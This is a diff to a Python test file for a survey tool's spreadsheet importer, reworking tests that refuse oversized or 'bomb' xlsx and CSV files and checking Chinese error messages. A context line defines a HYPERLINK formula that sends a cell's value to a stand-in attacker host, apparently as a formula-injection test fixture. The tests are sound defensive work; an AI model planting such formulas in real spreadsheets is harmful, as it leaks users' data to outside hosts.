@@ -20,7 +20,6 @@ from survey import db as store
 from survey import questionnaires, spreadsheets
 from survey.access.actor import SYSTEM
 from survey.companies import registry, transfer
-from survey.xlsform.loader import FormLoadError, load_xlsform
 from tests.helpers import ROOT, actor_for
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2, "点此核验")'
@@ -60,43 +59,50 @@ def run_cli(*args: str) -> subprocess.CompletedProcess:
     )
 
 
+@pytest.mark.store_independent
 @pytest.mark.parametrize("command", ["import-companies", "load-form"])
-def test_cli_refuses_a_sheet_that_declares_a_huge_dimension(tmp_path, command):
-    """Before the check, calamine aborted the process trying to allocate 512 GB."""
+def test_cli_refuses_content_at_both_ends_of_the_sheet(tmp_path, command):
+    """A1 and XFD1048576 both hold text: calamine would allocate 17 billion cells (it aborted the
+    process before the check). Refused by the content's extent, in Chinese."""
     bomb = tmp_path / "bomb.xlsx"
     bomb.write_bytes(BOMB)
     assert len(BOMB) < 6000
     db_args = ["--db", str(tmp_path / "x.db")] if command == "import-companies" else []
     result = run_cli(command, str(bomb), *db_args)
     assert result.returncode == 2, result
-    assert "范围过大" in result.stderr and "200,000 行 × 60 列" in result.stderr
-    assert "Traceback" not in result.stderr
+    assert "XFD1048576（1,048,576 行 × 16,384 列）" in result.stderr
+    assert "4,000,000 个单元格" in result.stderr and "Traceback" not in result.stderr
 
 
-def test_declared_dimension_alone_is_refused():
-    """A1:CV100000 (100 columns) declared, two real cells: refused before reading."""
+@pytest.mark.store_independent
+def test_a_declared_dimension_alone_is_not_a_reason_to_refuse():
+    """A1:XFD1048576 declared (as a sheet formatted to the edge declares it), two real cells: read.
+    The declared size was the wrong measure (issue 27)."""
     data = rewrite_sheet(
         xlsx({"A1": "a", "B2": "b"}),
-        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:CV100000"', xml),
+        lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', xml),
     )
-    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="100,000 行 × 100 列"):
-        spreadsheets.read_table(data, "wide.xlsx")
-    with pytest.raises(FormLoadError, match="范围过大"):
-        load_xlsform(data, "wide.xlsx")
+    assert list(spreadsheets.read_table(data, "wide.xlsx")) == [["a", ""], [[None, "b"]]]
 
 
-def test_real_cells_beyond_the_limit_are_refused_without_a_dimension():
+@pytest.mark.store_independent
+def test_filled_cells_beyond_the_limit_are_refused_without_a_dimension():
     data = rewrite_sheet(
         xlsx({"A1": "a", "BZ3": "far"}), lambda xml: re.sub(rb"<dimension [^>]*/>", b"", xml)
     )
-    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="3 行 × 78 列"):
-        spreadsheets.read_table(data, "far.xlsx")
+    assert spreadsheets.read_table(data, "far.xlsx").headers[0] == "a"
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match=r"BZ3（3 行 × 78 列）"):
+        spreadsheets.read_table(data, "far.xlsx", limits={"max_area": 200})
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="超过 1 个"):
+        spreadsheets.read_table(data, "far.xlsx", limits={"max_cells": 1})
 
 
-def test_csv_beyond_the_column_limit_is_refused():
+@pytest.mark.store_independent
+def test_csv_beyond_the_cell_limit_is_refused():
     data = ",".join(f"列{i}" for i in range(61)).encode()
-    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="61 列"):
-        spreadsheets.read_table(data, "wide.csv")
+    assert len(spreadsheets.read_table(data, "wide.csv").headers) == 61
+    with pytest.raises(spreadsheets.SpreadsheetTooLargeError, match="工作表“wide”.*超过 60 个"):
+        spreadsheets.read_table(data, "wide.csv", limits={"max_cells": 60})
 
 
 def test_a_registry_sized_file_still_reads():
